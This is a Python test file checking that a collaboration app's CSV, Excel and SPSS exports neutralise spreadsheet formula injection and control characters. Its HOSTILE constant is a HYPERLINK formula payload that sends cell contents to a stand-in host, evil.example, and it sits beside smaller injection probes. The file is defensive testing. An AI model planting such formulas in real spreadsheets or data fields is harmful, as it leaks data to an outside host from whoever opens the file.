"""Every export writes names as inert text: no formulas, and no control character breaks a file."""

import csv
import io
from pathlib import Path

import pyreadstat
import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from app.config import Settings
from app.models import Party, Round, RoundStatus
from app.services.exchange import export_formats, exports
from app.services.setup import personal_links
from tests.factories import OpenCollaboration, make_open_collaboration

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 30 123", "'+31 30 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Aannemer BV", "Aannemer BV"),
        ("a\x1eb\x00c", "a\ufffdb\ufffdc"),
        (3, 3),
        (True, 1),
    ],
)
def test_a_cell_is_written_as_inert_text(stored: object, written: object) -> None:
    assert export_formats.safe_cell(stored) == written


@pytest.fixture
def world(session: Session, settings: Settings) -> OpenCollaboration:
    world = make_open_collaboration(session, settings=settings, participants_per_party=1)
    # Stored as an older version or another path may have let it in: exports must cope.
    party = session.get(Party, world.parties[0].id)
    round_ = session.get(Round, world.round.id)
    assert party is not None and round_ is not None
    party.name = HOSTILE
    round_.label = "Nul\x1emeting"
    session.add_all([party, round_])
    session.commit()
    return world


def _export(session: Session, world: OpenCollaboration, format: str) -> bytes:
    round_ = session.get(Round, world.round.id)
    assert round_ is not None
    round_.status = RoundStatus.CLOSED  # exports hold closed rounds only (no live figures)
    session.add(round_)
    session.commit()
    return exports.export_collaboration(
        session,
        organisation_id=world.organisation_id,
        collaboration_id=world.collaboration.id,  # type: ignore[arg-type]
        format=format,  # type: ignore[arg-type]
    ).content


def test_csv_export_neutralises_formulas(session: Session, world: OpenCollaboration) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(session, world, "csv").decode())))
    parties = {row["party"] for row in rows}
    assert "'" + HOSTILE in parties and HOSTILE not in parties
    assert {row["round"] for row in rows} == {"Nul\ufffdmeting"}


def test_xlsx_export_holds_text_not_formulas(session: Session, world: OpenCollaboration) -> None:
    workbook = load_workbook(io.BytesIO(_export(session, world, "xlsx")))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert "'" + HOSTILE in texts and "Nul\ufffdmeting" in texts


def test_spss_export_holds_the_neutralised_text(
    session: Session, world: OpenCollaboration, tmp_path: Path
) -> None:
    path = tmp_path / "export.sav"
    path.write_bytes(_export(session, world, "sav"))
    frame, meta = pyreadstat.read_sav(str(path))
    assert "'" + HOSTILE in set(frame["party"])
    assert meta.variable_value_labels["round_number"] == {1.0: "Nul\ufffdmeting"}


def test_the_links_csv_goes_through_the_same_writer(
    session: Session, world: OpenCollaboration, settings: Settings
) -> None:
    content = personal_links.links_csv(
        session,
        organisation_id=world.organisation_id,
        collaboration_id=world.collaboration.id,  # type: ignore[arg-type]
        round_id=world.round.id,  # type: ignore[arg-type]
        settings=settings,
        everyone=True,
    )
    rows = list(csv.DictReader(io.StringIO(content)))
    assert "'" + HOSTILE in {row["party"] for row in rows}
